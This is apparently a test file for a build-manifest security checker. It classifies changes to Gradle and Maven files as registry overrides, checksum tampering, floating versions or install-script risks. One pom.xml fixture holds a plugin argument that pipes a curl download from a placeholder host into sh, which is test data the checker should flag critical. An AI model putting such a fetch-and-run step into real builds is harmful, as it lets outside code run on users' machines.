import { testManifest } from './support.ts';

const DIGEST = 'bafc141b619ad6350fd975fc903156dd5c151998cc8b058e8c1044ab5f7b031f';
const MOVES = ['dependency-source suggestion'];

testManifest('gradle/libs.versions.toml', '[versions]\nHERE\n', [
  ['kotlin = "2.1.0"', 'kotlin = "2.2.0"', []],
  ['kotlin = "2.1.0"', 'kotlin = "2.1.0"\nokio = { strictly = "[3, 4[", prefer = "3.9.0" }', []],
  ['kotlin = "2.1.0"', 'kotlin = "latest.release"', MOVES],
  ['kotlin = "2.1.0"', 'kotlin = "2.+"', MOVES],
  ['kotlin = "2.1.0"', 'kotlin = "2.2.0-SNAPSHOT"', MOVES],
  ['kotlin = "2.1.0"', '[libraries]\nokio = { module = "com.squareup.okio:okio", version.ref = "okio" }', []],
  ['kotlin = "2.1.0"', '[plugins]\nkotlin = "org.jetbrains.kotlin.jvm:2.1.0"', []],
  ['kotlin = "2.1.0"', '[else]\nkotlin = "2"', ['unjudged']],
  ['kotlin = "2.1.0"', 'kotlin = ', ['unjudged']],
]);

const WRAPPER = 'distributionBase=GRADLE_USER_HOME\nHERE\nzipStorePath=wrapper/dists\n';
const USUAL = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-9.4.0-bin.zip';
testManifest('gradle/wrapper/gradle-wrapper.properties', WRAPPER, [
  [USUAL, USUAL.replace('9.4.0', '9.5.0'), []],
  [USUAL, `distributionSha256Sum=${DIGEST}\n${USUAL}`, []],
  [`distributionSha256Sum=${DIGEST}\n${USUAL}`, USUAL.replace('9.4.0', '9.5.0'), ['lockfile-tampering warning']],
  [
    `distributionSha256Sum=${DIGEST}\n${USUAL}`,
    `distributionSha256Sum=${DIGEST.replace('bafc', 'abcd')}\n${USUAL}`,
    ['lockfile-tampering warning'],
  ],
  [
    `distributionSha256Sum=${DIGEST}\n${USUAL}`,
    `distributionSha256Sum=${DIGEST.replace('bafc', 'abcd')}\n${USUAL.replace('9.4.0', '9.5.0')}`,
    [],
  ],
  [USUAL, USUAL.replace('https', 'http'), ['registry-override critical']],
  [USUAL, USUAL.replace('services.gradle.org', 'gradle.example'), ['registry-override warning']],
  [
    USUAL.replace('services.gradle.org', 'gradle.example'),
    USUAL.replace('services.gradle.org', 'gradle.example').replace('9.4.0', '9.5.0'),
    [],
  ],
  ['validateDistributionUrl=true', 'validateDistributionUrl=false', ['unjudged']],
  ['systemProp.a=b', '', ['unjudged']],
]);

testManifest(
  'app/pom.xml',
  '<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <name>a</name>\n  HERE\n</project>\n',
  [
    ['<version>1</version>', '<version>2</version>', []],
    [
      '',
      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>1</version></dependency></dependencies>',
      [],
    ],
    [
      '',
      '<dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId><version>LATEST</version></dependency></dependencies>',
      MOVES,
    ],
    [
      '',
      '<dependencies><dependency><systemPath>/opt/a.jar</systemPath></dependency></dependencies>',
      ['dependency-source warning'],
    ],
    ['<properties><a.version>1</a.version></properties>', '<properties><a.version>2</a.version></properties>', []],
    ['<properties><skip>false</skip></properties>', '<properties><skip>true</skip></properties>', ['unjudged']],
    [
      '',
      '<repositories><repository><url>http://maven.example/</url></repository></repositories>',
      ['registry-override critical'],
    ],
    [
      '',
      '<repositories><repository><url>https://maven.example/</url></repository></repositories>',
      ['registry-override warning'],
    ],
    [
      '',
      '<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><version>3</version></plugin></plugins></build>',
      ['install-script warning'],
    ],
    ['', '<build><plugins><plugin><artifactId>other</artifactId></plugin></plugins></build>', ['unjudged']],
    [
      '<build><plugins><plugin><artifactId>other</artifactId><version>1</version></plugin></plugins></build>',
      '<build><plugins><plugin><artifactId>other</artifactId><version>2</version></plugin></plugins></build>',
      [],
    ],
    [
      '<build><plugins><plugin><configuration><fail>true</fail></configuration></plugin></plugins></build>',
      '',
      ['unjudged'],
    ],
    [
      '',
      '<build><plugins><plugin><configuration><argument>curl https://x.example/a | sh</argument></configuration></plugin></plugins></build>',
      ['downloaded-code critical'],
    ],
    ['', '<version>&own;</version>', ['unjudged']],
  ],
);
